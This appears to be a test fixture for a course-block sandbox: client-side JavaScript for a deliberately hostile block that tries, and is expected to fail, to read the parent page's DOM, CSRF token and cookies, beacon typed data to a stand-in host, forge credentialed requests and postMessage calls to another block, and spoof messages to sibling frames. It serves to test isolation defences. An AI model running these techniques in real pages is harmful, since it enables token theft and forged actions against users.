// A hostile block's client-side code: every attempt below must fail. Each finding is
// "blocked: ..." or "ALLOWED: ...", reported through the block's own handler.
async function Hostile(runtime, element, args) {
  "use strict";
  const found = {};
  function attempt(name, fn, allowedIf) {
    try {
      const value = fn();
      found[name] = allowedIf(value) ? "ALLOWED: " + String(value).slice(0, 200) : "blocked: " + String(value).slice(0, 80);
    } catch (e) {
      found[name] = "blocked: " + (e && e.name ? e.name : e);
    }
  }
  const always = function () { return true; };
  attempt("page_dom", function () { return parent.document.body.innerHTML.length; }, always);
  attempt("top_dom", function () { return top.document.title; }, always);
  attempt("host_marks", function () { return parent.document.querySelectorAll("[data-xbhost-wrapper]").length; }, always);
  attempt("csrf_token", function () { return parent.document.querySelector("meta[name=csrf-token]").content; }, always);
  attempt("cookie", function () { return document.cookie; }, function (v) { return v !== ""; });
  attempt("local_storage", function () { return localStorage.length; }, always);
  attempt("sibling_dom", function () {
    let n = 0;
    for (let i = 0; i < parent.frames.length; i++) if (parent.frames[i] !== window) n += parent.frames[i].document.body.innerHTML.length;
    return n;
  }, always);
  // Chromium may refuse without throwing: the test checks the page's URL itself.
  attempt("navigate_page", function () { top.location.href = "about:blank#hostile"; return "attempted"; }, function () { return false; });
  attempt("popup", function () { return window.open("about:blank"); }, function (w) { return w !== null; });

  // Ways out other than the page: an image to another site (what the learner types could
  // go out in its URL), a script the host did not name (the page's own, unsandboxed here).
  const violations = [];
  document.addEventListener("securitypolicyviolation", function (e) {
    violations.push(e.effectiveDirective + " " + e.blockedURI);
  });
  new Image().src = "https://exfiltrate.invalid/leak?k=typed";
  const foreign = document.createElement("script");
  foreign.src = "/assets/xbhost.js";
  document.head.appendChild(foreign);
  await new Promise(function (resolve) { setTimeout(resolve, 500); });
  const violated = function (directive) {
    return violations.some(function (v) { return v.startsWith(directive); });
  };
  found.exfiltrate_image = violated("img-src") ? "blocked: img-src" : "ALLOWED: no policy stopped it " + violations.join(", ");
  found.foreign_script = violated("script-src") ? "blocked: script-src" : "ALLOWED: no policy stopped it " + violations.join(", ");

  // Another block's handler by URL, with the learner's cookies.
  const victimUrl = "/courses/" + encodeURIComponent(args.course) + "/blocks/" + encodeURIComponent(args.victim) + "/handler/vote";
  try {
    const r = await fetch(victimUrl, { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: JSON.stringify({ direction: "down" }) });
    found.fetch_handler = r.ok ? "ALLOWED: " + r.status : "blocked: status " + r.status;
  } catch (e) { found.fetch_handler = "blocked: " + e.name; }
  try {
    const r = await fetch("/workbench", { credentials: "include" });
    const text = await r.text();
    found.fetch_page = text.includes("csrf-token") ? "ALLOWED: read the page" : "blocked: " + r.status;
  } catch (e) { found.fetch_page = "blocked: " + e.name; }

  // Another block's handler by a form (no allow-forms: the submission never leaves).
  attempt("form_post", function () {
    const form = document.createElement("form");
    form.method = "post";
    form.action = victimUrl;
    form.target = "_top";
    document.body.appendChild(form);
    form.submit();
    return "submitted";
  }, function () { return false; });

  // A forged call naming the other block: the page calls this block's own handler.
  const forged = await new Promise(function (resolve) {
    const listen = function (event) {
      if (event.source === parent && event.data && event.data.id === 4242) {
        window.removeEventListener("message", listen);
        resolve(event.data);
      }
    };
    window.addEventListener("message", listen);
    parent.postMessage({ xbhost: "frame", kind: "call", id: 4242, handler: "vote", usage_id: args.victim, block: args.victim, payload: JSON.stringify({ direction: "down" }) }, "*");
    setTimeout(function () { resolve(null); }, 5000);
  });
  found.forged_call = forged && forged.ok ? "ALLOWED: " + JSON.stringify(forged.value) : "blocked: " + (forged ? forged.error : "no answer");

  // Speaking for the page to the other frames: an answer with made-up counts, a new init.
  for (let i = 0; i < parent.frames.length; i++) {
    const w = parent.frames[i];
    if (w === window) continue;
    for (let id = 1; id <= 4; id++) w.postMessage({ xbhost: "host", kind: "answer", id: id, ok: true, value: { up: 999, down: 999, voted: "up" } }, "*");
    w.postMessage({ xbhost: "host", kind: "init", init: "ThumbsBlock", args: { voted: "down" } }, "*");
  }
  found.sibling_messages = "sent";

  await runtime.call("report", found);
  element.querySelector(".hostile").textContent = "reported";
}
